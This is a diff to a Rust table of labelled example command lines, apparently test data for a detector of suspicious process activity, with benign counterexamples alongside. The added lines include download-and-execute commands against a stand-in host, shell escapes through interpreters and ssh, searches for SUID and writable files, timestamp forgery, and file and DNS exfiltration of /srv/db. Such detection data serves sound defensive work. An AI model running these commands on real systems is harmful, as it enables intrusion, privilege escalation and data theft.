@@ -35,6 +35,9 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
             "/bin/sh sh -c curl -s a.example/x | sudo sh",
             "/bin/bash bash -c bash <(curl -s a.example/x)",
             "/bin/sh sh -c eval \"$(wget -qO- a.example/x)\"",
+            "/bin/sh sh -c wget http://a.example/x; chmod +x x; ./x > /tmp/out",
+            "/bin/sh sh -c curl -so /tmp/x a.example/x && chmod 755 /tmp/x && nohup /tmp/x",
+            "/bin/sh sh -c curl -so /tmp/x a.example/x\nsh /tmp/x",
         ],
         "/bin/sh sh -c curl http://a.example/x | sha256sum",
     ),
@@ -89,6 +92,13 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
             "/usr/bin/find find . -exec /bin/sh -p ;",
             "/usr/bin/awk awk BEGIN {system(\"/bin/sh\")}",
             "/usr/bin/vim vim -c :!sh",
+            "/usr/bin/mawk mawk BEGIN {\"/bin/sh\" | getline; print | \"/bin/sh\"}",
+            "/bin/sh sh -c echo '! exec \"/bin/bash &\"' | cpan",
+            "/usr/bin/python3 python3 -c import os; os.system(\"/bin/sh\")",
+            "/usr/bin/perl perl -e exec \"/bin/sh\";",
+            "/usr/bin/node node -e require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})",
+            "/usr/bin/script script -qc /bin/bash /dev/null",
+            "/usr/bin/ssh ssh -o ProxyCommand=;sh 0<&2 1>&2 x",
         ],
         "/usr/bin/find find /srv -name x -exec rm {} ;",
     ),
@@ -191,7 +201,7 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
     ),
     (
         "A file is kept from being removed",
-        &["/usr/bin/chattr chattr +i /tmp/x"],
+        &["/usr/bin/chattr chattr +i /tmp/x", "/usr/bin/chattr chattr -ia /tmp/x"],
         "/usr/bin/lsattr lsattr /tmp/x",
     ),
     (
@@ -210,10 +220,13 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         "/bin/cat cat /proc/self/status",
     ),
     (
-        "Programs with others' rights are searched for",
+        "Programs with others' rights, or without a guard, are searched for",
         &[
             "/usr/bin/find find / -perm -4000 -type f",
             "/usr/bin/find find / -perm -u=s",
+            "/usr/bin/find find / -perm -g+w -type d",
+            "/usr/bin/find find / -perm -0002 -type f",
+            "/usr/bin/find find / -writable ! -path /proc/*",
             "/sbin/getcap getcap -r /",
         ],
         "/usr/bin/find find /srv -perm 0644",
@@ -236,8 +249,14 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         "/usr/bin/pkill pkill -HUP nginx",
     ),
     (
-        "A file is given another's date",
-        &["/bin/touch touch -r /bin/ls /tmp/x", "/bin/touch touch -acmr /bin/ls x"],
+        "A file is made to look like another",
+        &[
+            "/bin/touch touch -r /bin/ls /tmp/x",
+            "/bin/touch touch -acmr /bin/ls x",
+            "/bin/touch touch -m -t 202001010000 x",
+            "/usr/bin/truncate truncate -s +8 /tmp/x",
+            "/bin/sh sh -c dd if=/dev/zero bs=1 count=1 >> /tmp/x",
+        ],
         "/bin/touch touch /run/ready",
     ),
     (
@@ -251,6 +270,8 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
             "/usr/bin/gpg gpg -c /srv/db",
             "/usr/bin/openssl openssl enc -aes-256-cbc -in x",
             "/usr/bin/zip zip -P x a",
+            "/usr/bin/openssl openssl des3 -salt -pass pass:x",
+            "/usr/bin/openssl openssl aes-256-cbc -pbkdf2 -in x",
         ],
         "/usr/bin/openssl openssl dgst x",
     ),
@@ -264,6 +285,7 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         "A file is sent away",
         &[
             "/usr/bin/curl curl -F f=@/srv/db https://a.example",
+            "/bin/sh sh -c curl -F 'f=@/srv/db' https://a.example",
             "/usr/bin/curl curl --data-binary @db http://a.example",
             "/usr/bin/scp scp /srv/db x@a.example:/",
             "/bin/sh sh -c nc a.example 80 < /srv/db",
@@ -277,6 +299,25 @@ const EXAMPLES: &[(&str, &[&str], &str)] = &[
         &["/usr/bin/curl curl -o /tmp/x http://a.example/x", "/bin/wget wget http://a.example/x -P /dev/shm"],
         "/usr/bin/curl curl http://a.example/tmp/x",
     ),
+    (
+        "A folder is served to the network",
+        &[
+            "/usr/bin/python3 python3 -m http.server 9090",
+            "/usr/bin/php php -S 0.0.0.0:8080",
+            "/bin/sh sh -c ruby -run -e httpd . -p 8000",
+        ],
+        "/usr/bin/python3 python3 -m unittest",
+    ),
+    (
+        "A domain is made of data",
+        &[
+            "/bin/sh sh -c dig @10.0.0.1 $(head -c 30 /srv/db | base64).a.example",
+            "/bin/sh sh -c for c in $(xxd -p /srv/db); do nslookup $c.a.example; done",
+            "/usr/bin/nslookup nslookup aGVsbG8gaGVsbG8gaGVsbG8gaGVsbG8gaGVsbG8gaGVs.x.a.example",
+        ],
+        "/usr/bin/dig dig +short api.a.example",
+    ),
+    ("What the kernel has loaded is listed", &["/bin/lsmod lsmod", "/bin/kmod kmod list"], "/bin/ls ls /lib"),
     (
         "A tunnel is built",
         &["/tmp/chisel x client a:1 R:socks", "/usr/bin/ssh ssh -N -R 9000:localhost:22 h"],
